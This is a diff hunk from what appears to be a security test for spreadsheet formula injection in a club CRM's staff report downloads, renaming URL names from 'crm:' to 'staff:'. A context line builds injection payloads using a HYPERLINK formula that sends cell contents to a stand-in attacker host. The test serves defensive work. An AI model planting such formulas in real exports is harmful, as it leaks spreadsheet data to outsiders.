@@ -22,11 +22,11 @@ PAYLOADS = [f'{start}HYPERLINK("https://evil.example/"&A1)' for start in FORMULA
 
 # Every download staff can make: URL name -> whether member- or staff-typed text reaches it.
 DOWNLOADS = {
-    "crm:report_attendance": True,  # event titles
-    "crm:report_growth": False,  # months and counts only
-    "crm:report_clubs": True,  # club titles
-    "crm:report_leads": True,  # accessory titles
-    "crm:report_emails": False,  # events that sent invitations (none here)
+    "staff:report_attendance": True,  # event titles
+    "staff:report_growth": False,  # months and counts only
+    "staff:report_clubs": True,  # club titles
+    "staff:report_leads": True,  # accessory titles
+    "staff:report_emails": False,  # events that sent invitations (none here)
     "wagtailsnippets_community_car:list": True,  # owners, trims, colours
     "event_rsvps:index": True,  # member names
     "accessory_leads:index": True,  # names typed by visitors
